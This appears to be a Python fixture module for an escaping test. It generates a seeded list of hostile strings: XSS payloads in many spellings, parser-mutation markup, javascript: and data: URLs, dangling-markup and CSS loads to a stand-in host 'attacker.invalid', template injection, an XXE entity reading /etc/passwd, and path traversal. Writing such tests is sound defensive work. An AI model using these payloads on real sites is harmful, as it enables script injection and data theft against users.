"""Hostile texts, which run a script, load something or change the page if one of them is not escaped.

`usual()` has texts of each family, `everything()` also the products of the families. Both return the same texts on each
run. Scripts call `breach()`, a function that the check adds to the browser.
"""

import base64
import itertools
import random

from spellings import respelled

SITE = "https://attacker.invalid"
SEED = 20261122

# Markup that acts by itself or on an event.
MARKUP = (
    # Script elements in the spellings that parsers accept.
    "<script>breach()</script>", "<ScRiPt>breach()</sCrIpT>", "<script/x>breach()</script/x>", "<script\t>breach()</script\n>",
    "<script\f>breach()</script >", "<<script>breach()//<</script>", "<scr<script>ipt>breach()</scr</script>ipt>",
    f"<script src={SITE}/a.js></script>", f"<script src=//attacker.invalid/a.js></script>", "<script>breach()",
    f"<script type=module>import '{SITE}/m.js'</script>", "<script src=data:text/javascript,breach()></script>",
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{SITE}/s"]}}]}}</script>',
    "<script>/*</script><!--*/breach()</script>",
    # Event handlers.
    "<img src=x onerror=breach()>", "<img/src=x/onerror=breach()//", "<img src=\"x\"onerror=\"breach()\">",
    "<IMG SRC=x OnErRoR='breach()'>",
    "<img src onerror\n=\nbreach()>", "<image src=x onerror=breach()>", "<video><source onerror=breach()></video>",
    "<video src=x onerror=breach()>", "<audio src=x onerror=breach()>", "<object data=x onerror=breach()></object>",
    "<input type=image src=x onerror=breach()>", "<link rel=stylesheet href=x onerror=breach()>",
    "<details open ontoggle=breach()>",
    "<body onload=breach()>", "<frameset onload=breach()>", "<iframe onload=breach()></iframe>",
    "<marquee onstart=breach()>x</marquee>",
    "<style onload=breach()></style>", "<input autofocus onfocus=breach()>", "<select autofocus onfocus=breach()></select>",
    "<textarea autofocus onfocus=breach()></textarea>", "<x-y tabindex=1 autofocus onfocus=breach()>x</x-y>",
    "<p onmouseover=breach() onpointerenter=breach()>x</p>", "<dialog open onclick=breach()>x</dialog>",
    "<button onclick=breach()>x</button>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=breach()></b>",
    "<div id=p popover onbeforetoggle=breach()>x</div><button popovertarget=p>x</button>",
    # Frames and embedded documents.
    "<iframe src=javascript:breach()></iframe>", '<iframe srcdoc="<script>parent.breach()</script>"></iframe>',
    "<iframe srcdoc=&lt;script&gt;parent.breach()&lt;/script&gt;></iframe>",
    "<object data='data:text/html,<script>breach()</script>'></object>",
    "<embed src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=breach()>'>",
    f"<iframe src={SITE}/frame></iframe>",
    "<div><template shadowrootmode=open><script>breach()</script></template></div>",
    "<template><script>breach()</script></template>",
    # Other namespaces, and markup whose meaning changes when a parser repairs it.
    "<svg onload=breach()>", "<svg/onload=breach()//", "<svg><script>breach()</script></svg>",
    "<svg><script>breach&lpar;&rpar;</script></svg>",
    "<svg><script href=data:,breach() /></svg>", "<svg><animate onbegin=breach() attributeName=x dur=1s>",
    "<svg><set onbegin=breach() attributeName=x>",
    "<svg><a xlink:href=javascript:breach()><text y=20>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:breach() /><text y=9>x</text></a>",
    f"<svg><image href={SITE}/i.svg /></svg>", f"<svg><use href={SITE}/u.svg#x /></svg>",
    "<svg><foreignObject><img src=x onerror=breach()></foreignObject></svg>",
    "<svg><style><img src=x onerror=breach()></style></svg>", "<svg><title><img src=x onerror=breach()></title></svg>",
    "<svg></p><style><a id=\"</style><img src=x onerror=breach()>\">",
    "<svg><desc><![CDATA[</desc></svg><img src=x onerror=breach()>]]>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=breach()&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=breach()>",
    "<math href=javascript:breach()>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=breach()></annotation-xml></math>",
    "<math><mi//xlink:href=\"data:x,<script>breach()</script>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=breach()>\">",
    "<table><tr><td></table></td><img src=x onerror=breach()>",
    "<listing>&lt;img src=x onerror=breach()&gt;</listing>",
    "<select><template><img src=x onerror=breach()></template></select>",
    "<a><table><a><img src=x onerror=breach()>", "<p><svg><p><img src=x onerror=breach()>", "<plaintext>",
    "<xmp><img src=x onerror=breach()>", "<textarea>", "<title>",
    # Links, forms, and elements that change settings of the document.
    "<a href=javascript:breach()>x</a>", "<a href='java&Tab;script&colon;breach()'>x</a>",
    f"<a href={SITE} ping={SITE}/ping>x</a>",
    f"<form action={SITE}/form><input name=q autofocus><button>x</button></form>",
    "<form action=javascript:breach()><button autofocus>x</button></form>",
    "<form id=f></form><button form=f formaction=javascript:breach()>x</button>", f"<base href={SITE}/>",
    "<base target=_blank>",
    f"<meta http-equiv=refresh content=\"0;url={SITE}/refresh\">",
    "<meta http-equiv=refresh content='0;url=javascript:breach()'>",
    "<meta charset=utf-7>", "<meta http-equiv=content-type content='text/html;charset=utf-16'>",
    "<meta http-equiv=set-cookie content=a=b>",
    "<meta name=referrer content=unsafe-url>", f"<link rel=stylesheet href={SITE}/b.css>",
    f"<link rel=preload as=image href={SITE}/p.png>",
    f"<link rel=prefetch href={SITE}/p>", f"<link rel=icon href={SITE}/i.ico>", f"<link rel=manifest href={SITE}/m>",
    f"<link rel=preconnect href={SITE}>",
    f"<img src={SITE}/a.png>", f"<img srcset='{SITE}/a.png 2x'>", f"<picture><source srcset={SITE}/a.png><img></picture>",
    f"<video poster={SITE}/a.png></video>",
    f"<body background={SITE}/b.png>", f"<table background={SITE}/t.png><tr><td>x</table>",
    f"<input type=image src={SITE}/i.png>",
    f"<style>@import '{SITE}/c.css';</style>", f"<style>*{{background:url({SITE}/d)}}</style>",
    f"<p style=\"background:url({SITE}/e)\">x</p>",
    "<style>body{display:none}</style>", "<p style=position:fixed;inset:0;z-index:9>x</p>",
    # Markup that is not closed and takes in the rest of the page.
    f"<img src='{SITE}/?", f'<img src="{SITE}/?', f"<img src=`{SITE}/?", f"<a href='{SITE}/?", f"<form action='{SITE}/?",
    f"<meta http-equiv=refresh content='0;url={SITE}/?",
    f"<link rel=stylesheet href='{SITE}/?", f"<style>@import '{SITE}/?", f"<textarea form=x><form id=x action={SITE}>", "<!--",
    "<![CDATA[", "<?x", "</", "<!", "<", "&", "&#", "&lt",
    # Names that shadow properties of the document.
    "<a id=document name=location>x</a>", "<form name=body><input name=children></form>", "<iframe name=breach></iframe>",
)

# Endings of the element, attribute or section around a text.
ENDINGS = (
    ">", "\">", "'>", "`>", " >", "/>", "\"/>", "-->", "--!>", "]]>", "</title>", "</textarea>", "</style>", "</script>",
    "</noscript>",
    "</svg>", "</math>", "</template>", "</iframe>", "</xmp>", "</noframes>", "</noembed>", "</select>",
    "</p></bdi></b></span></td></tr></table>",
    "</body></html>", "*/", "\n", "<!--", "<![CDATA[", "\\\">", "\\'>", "&quot;>", "&#34;&#62;", "x\" ", "\u0000\">",
    "-->'\"/></sCript><svG x=\">", "';breach()//\";breach()//-->\"></title></style></textarea></noscript></script>",
)

# Attributes to add after the quotation mark that ends another one.
ATTRIBUTES = (
    "onmouseover=breach()", "onfocus=breach() tabindex=1 autofocus", "onclick=breach()", "onload=breach()", "onerror=breach()",
    "ontoggle=breach()",
    "onpointerenter=breach()", "onbegin=breach()", "onanimationstart=breach() style=animation-name:x",
    "accesskey=x onclick=breach()",
    "href=javascript:breach()", "xlink:href=javascript:breach()", f"src={SITE}/a", f"style=background:url({SITE}/e)",
    "srcdoc=<script>breach()</script>",
    "formaction=javascript:breach()", "http-equiv=refresh", f"content=0;url={SITE}/refresh", "id=document name=body",
    "is=x contenteditable hidden",
)
QUOTES = ("\"", "'", "`", " ", "/", "\"\t", "'\n", "\\\"", "&quot;", "\"\u0301 ", "x\" ")

# Addresses that must not become links, and web addresses with hostile paths or hosts.
ADDRESSES = (
    "javascript:breach()", "JaVaScRiPt:breach()", "java\tscript:breach()", "java\nscript:breach()", "java\rscript:breach()",
    "\tjavascript:breach()",
    " javascript:breach()", "\u0001javascript:breach()", "\u001fjavascript:breach()", "\u00a0javascript:breach()",
    "\ufeffjavascript:breach()",
    "\u2028javascript:breach()", "javascript\u0000:breach()", "javascript&colon;breach()", "&#106;avascript:breach()",
    "&#x6A;avascript:breach()",
    "java&Tab;script:breach()", "javascript%3Abreach()", "java%0ascript:breach()", "javascript\t:breach()",
    "javascript://example.org/%0abreach()",
    "javascript:/*https://*/breach()", "javascript:\"https://example.org/\";breach()", "view-source:javascript:breach()",
    "feed:javascript:breach()",
    "jar:javascript:breach()", "vbscript:breach()", "livescript:breach()", "data:text/html,<script>breach()</script>",
    "DATA:text/html,<script>breach()</script>",
    "data:text/html;base64," + base64.b64encode(b"<script>breach()</script>").decode(),
    "data:image/svg+xml,<svg onload=breach()>",
    "data:application/xhtml+xml,<x/>", "data:,x", "blob:https://example.org/1", "filesystem:https://example.org/x",
    "file:///etc/passwd", "about:blank",
    "chrome://settings", "intent://x#Intent;end", "msteams:x", "ftp://example.org/",
    "mailto:a@example.org?body=\"onclick=breach()", "//attacker.invalid/",
    "\\\\attacker.invalid\\x", "/\\attacker.invalid", "https:attacker.invalid", "https:///attacker.invalid",
    "https:\\\\attacker.invalid", "?x", "#x", "",
    "https://example.org/\"onmouseover=breach() x=\"", "https://example.org/'onmouseover='breach()",
    "https://example.org/`onmouseover=breach()",
    "https://example.org/\"><script>breach()</script>", "https://example.org/?<script>breach()</script>",
    "https://example.org/#<img src=x onerror=breach()>",
    "https://example.org/ onmouseover=breach()", "https://example.org/\tonmouseover=breach()",
    "https://example.org/\nonmouseover=breach()",
    "https://\"onmouseover=breach()/", "https://example.org\"onmouseover=breach()",
    "https://\"onmouseover=breach()@example.org/", "https://[::1]\"/",
    "https://example.org:99999/", "https://example.org/\u202e", "https://ex\u0430mple.org/", "https://example.org/%",
    "https://example.org/%22onclick=breach()",
    "https://example.org/&quot;onclick=breach()", "https://example.org/{{breach()}}", "https://example.org/\u0000",
    "HTTPS://EXAMPLE.ORG/<b>", "http://exa\tmple.org/",
)

# Template and script syntax, paths, odd characters and long texts.
ODDITIES = (
    "{{breach()}}", "{{constructor.constructor('breach()')()}}", "${breach()}", "`${breach()}`", "#{breach()}",
    "<%= breach() %>", "{%raw%}", "[[${breach()}]]",
    "@{breach()}", "*{breach()}", "{place}", "{degrees} {name} {", "%s%n%@", "\\(breach())", "');breach();('", "\";breach();\"",
    "\\';breach();//", "\u2028breach()\u2029",
    "data-text=\"day.summary\"", "<b data-text='place.name' data-each='alerts.items'>x</b>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "../../../../etc/passwd", "/etc/passwd\u0000.html", "Europe/London\"><script>breach()</script>",
    "en\" onmouseover=\"breach()", "rain\"><script>breach()</script>",
    "\u202e<script>breach()</script>", "\u2066\u202a\u200e\u061cx\u2069<b>", "\ufeff<script>breach()</script>",
    "\u0000\u0001\u0008\u000b\u001f\u007f<b>", "\u0080\u0085\u009f<b>",
    "\ud7ff\ue000\ufffd\ufffe\uffff\U0001fffe\U0010ffff<b>", "\U0001f468\u200d\U0001f469\u200d\U0001f467<b>",
    "a" + "\u0301" * 300 + "<b>", "\r\n\r<b>\r\n", "&amp;lt;b&amp;gt;",
    "&lt;script&gt;breach()&lt;/script&gt;", "&#60;b&#62;", "&#x3c;b>", "&#0;&#128;&#xD800;&#x110000;", "&notit;&not;in;",
    "\u001b$B<script>\u001b(Bbreach()", "\u001b(J\\\"><b>",
    "null", "undefined", "+NaN", "__proto__", "constructor", "0", "-0", "true", "[object Object]", "\"", "'", "`", "\"'`<>&",
    "=", "\\",
    "A" * 66_000 + "<script>breach()</script>", "<b>" * 3_000, "\"" * 5_000, "&" * 5_000, "<!--" * 2_000, "<svg>" * 600,
    "\U0001f327" * 33_000 + "<b>",
)

# Invalid UTF-8 for the command line: overlong and truncated sequences, surrogates, other encodings.
BYTES = tuple(
    bytes.decode("utf-8", "surrogateescape")
    for bytes in (
        b"\xc0\xbcscript\xc0\xbebreach()\xc0\xbc/script\xc0\xbe", b"\xe0\x80\xbcb\xe0\x80\xbe", b"\xf0\x80\x80\xbcb>",
        b"x\xc3\"onclick=breach()", b"\xe2\x80<b>", b"\xf0\x9f\x8c'><b>", b"\xff\xfe<\xfeb>", b"\xed\xa0\xbc\xed\xbc\xa7<b>",
        b"\x82\xa0\x81\\\"><b>", b"\x80<b>\xbf",
    )
)


def attributes(quotes=QUOTES):
    """Attributes after each quotation mark."""
    for quote, attribute in itertools.product(quotes, ATTRIBUTES):
        close = quote.strip()[:1]
        yield f"{quote} {attribute}"
        if close in "\"'`" and close:
            yield quote + attribute.replace("breach()", f"{close}breach(){close}")


def usual():
    """Texts of each family, and a choice of the products."""
    chance = random.Random(SEED)
    texts = [*MARKUP, *ODDITIES, *BYTES, *ADDRESSES]
    texts += [ending + chance.choice(MARKUP) for ending in ENDINGS]
    texts += chance.sample(sorted(set(attributes())), 40)
    for number in range(len(list(respelled("")))):
        texts.append(list(respelled(chance.choice(MARKUP)))[number][1])
    return distinct(texts, chance)


def everything():
    """The products of endings, quotation marks and spellings with the markup and the attributes."""
    chance = random.Random(SEED)
    texts = [*usual(), *attributes()]
    texts += [ending + markup for ending, markup in itertools.product(ENDINGS, MARKUP)]
    texts += [text for markup in MARKUP for _, text in respelled(markup)]
    texts += [text for ending in ENDINGS for _, text in respelled(ending + chance.choice(MARKUP))]
    return distinct(texts, chance)


def addresses(all_of_them):
    """Addresses, and web addresses that end with other hostile texts."""
    chance = random.Random(SEED)
    texts = list(ADDRESSES)
    behind = everything() if all_of_them else chance.sample(usual(), 60)
    texts += ["https://example.org/" + text for text in behind]
    if all_of_them:
        texts += [text for address in ADDRESSES for _, text in respelled(address)]
        texts += [start + address for start in map(chr, (*range(0x21), 0x7F, 0xA0, 0x2028, 0xFEFF)) for address in ADDRESSES[:4]]
    return distinct(texts, chance)


def distinct(texts, chance):
    """Returns each text once, without blank ones, in a random order: neighbours are of different families."""
    known = [text for text in dict.fromkeys(texts) if text.strip()]
    chance.shuffle(known)
    return known
